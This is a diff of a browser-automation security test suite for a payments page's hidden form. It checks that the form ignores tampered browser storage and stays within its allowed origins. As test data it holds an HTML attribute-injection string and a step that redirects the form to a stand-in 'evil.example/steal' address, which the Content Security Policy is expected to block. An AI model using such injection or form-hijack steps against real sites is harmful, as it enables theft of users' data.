@@ -1,21 +1,23 @@
 import { readdir, readFile } from 'node:fs/promises';
 import { join } from 'node:path';
 import type { BrowserContext, Page } from 'playwright-core';
-import { describe, expect, it } from 'vitest';
+import { describe, expect } from 'vitest';
 import { formOrigins } from '../../src/generated/origins.ts';
-import { ROOT, serveSite } from '../support/site.ts';
+import { ROOT } from '../support/site.ts';
 import { storedSession } from './support/account.ts';
+import { it, type NewVisitor } from './support/fixtures.ts';
 
-const site = serveSite();
 const INJECTED = '"><input name="x" value="1"><input name="';
 const payment = (page: Page) => page.locator('#pagos li', { hasText: 'NYK' }).getByRole('button').first();
 
 /** Opens the page with the payments as somebody whose browser keeps this. */
-async function opened(kept: object, more: Readonly<Record<string, string>> = {}) {
-  const visitor = await site.visit();
+async function opened(newVisitor: NewVisitor, kept: object, more: Readonly<Record<string, string>> = {}) {
+  const visitor = await newVisitor();
   await visitor.context.route(/^https:\/\/[^/?]*example/, (route) => route.fulfill({ body: 'ok' }));
   await visitor.context.addInitScript(
     (entries) => {
+      // The tab that a form opens is nowhere at first, and keeps nothing there.
+      if (origin === 'null') return;
       for (const [key, value] of entries) localStorage.setItem(key, value);
     },
     Object.entries({ userData: JSON.stringify(kept), ...more }),
@@ -31,8 +33,11 @@ async function posted(context: BrowserContext, page: Page) {
   return { origin: new URL(sent.url()).origin, fields: [...new URLSearchParams(sent.postData() ?? '')] };
 }
 
-describe('55: a hidden form', () => {
-  it('posts its listed fields and no other, to its own address, whatever the browser keeps', async () => {
+describe('a hidden form (S-55)', () => {
+  it('posts its listed fields and no other, to its own address, whatever the browser keeps', async ({
+    newVisitor,
+    site,
+  }) => {
     const session = await storedSession(site, '900000051');
     const foreign = {
       url: 'https://evil.example',
@@ -41,12 +46,10 @@ describe('55: a hidden form', () => {
     };
     const kept = { ...session, ...foreign, nit: INJECTED, nitsistema: INJECTED, PTWEB_NIT: '1', PACCION: 'X' };
     const more = { preferredLine: 'https://evil.example', action: 'https://evil.example' };
-    const { page, context, complaints } = await opened(kept, more);
+    const { page, context, visit, tolerate } = await opened(newVisitor, kept, more);
     // As if the server could not be asked whose session it is.
     await context.route('**/api/sesion', (route) => route.abort());
-    await page.goto('/tramites-y-consultas?action=https://evil.example&PTWEB_NIT=1&url=//evil.example', {
-      waitUntil: 'networkidle',
-    });
+    await visit('/tramites-y-consultas?action=https://evil.example&PTWEB_NIT=1&url=//evil.example');
     await expect.poll(() => page.locator('input[name="x"]').count()).toBe(0);
     expect(await posted(context, page)).toEqual({
       origin: formOrigins[0],
@@ -56,13 +59,15 @@ describe('55: a hidden form', () => {
         ['PTWEB_NITSISTEMA', INJECTED],
       ],
     });
-    complaints.length = 0;
-    await context.close();
+    tolerate(/Failed to load resource/);
   });
 
-  it('names the client whom the server knows the session of, and not whom the browser was made to name', async () => {
+  it('names the client whom the server knows the session of, and not whom the browser was made to name', async ({
+    newVisitor,
+    site,
+  }) => {
     const session = await storedSession(site, '900000052');
-    const { page, context } = await opened({ ...session, nit: '800999999', nitsistema: '1', perfil: 'x' });
+    const { page, context } = await opened(newVisitor, { ...session, nit: '800999999', nitsistema: '1', perfil: 'x' });
     const told = page.waitForResponse('**/api/sesion');
     await page.goto('/tramites-y-consultas');
     await told;
@@ -73,29 +78,30 @@ describe('55: a hidden form', () => {
       ['PTWEB_NIT', session.nit],
       ['PTWEB_NITSISTEMA', session.nitsistema],
     ]);
-    await context.close();
   });
 
-  it('whose address was changed in the page goes nowhere', async () => {
-    const { page, context, complaints } = await opened(await storedSession(site, '900000053'));
+  it('whose address was changed in the page goes nowhere', async ({ newVisitor, site }) => {
+    const { page, context, visit, tolerate, complaints } = await opened(
+      newVisitor,
+      await storedSession(site, '900000053'),
+    );
     const asked: string[] = [];
     context.on('request', (request) => asked.push(request.url()));
-    await page.goto('/tramites-y-consultas', { waitUntil: 'networkidle' });
+    await visit('/tramites-y-consultas');
     await payment(page).evaluate((button: HTMLButtonElement) => {
       button.form?.setAttribute('action', 'https://evil.example/steal');
       button.form?.setAttribute('target', '_self');
       button.click();
     });
     await expect
-      .poll(() => complaints.join('\n'))
+      .poll(() => complaints().join('\n'))
       .toContain('violates the following Content Security Policy directive: "form-action');
     expect(asked.filter((url) => url.includes('evil.example'))).toEqual([]);
-    complaints.length = 0;
-    await context.close();
+    tolerate(/form-action/);
   });
 });
 
-it('55: no page holds a form to another address than the listed ones, or one that opens a tab which can reach back', async () => {
+it('no page holds a form to another address than the listed ones, or one that opens a tab which can reach back (S-55)', async () => {
   const folder = join(ROOT, 'dist/site/pages');
   const files = (await readdir(folder, { recursive: true })).filter((name) => name.endsWith('.html'));
   let forms = 0;
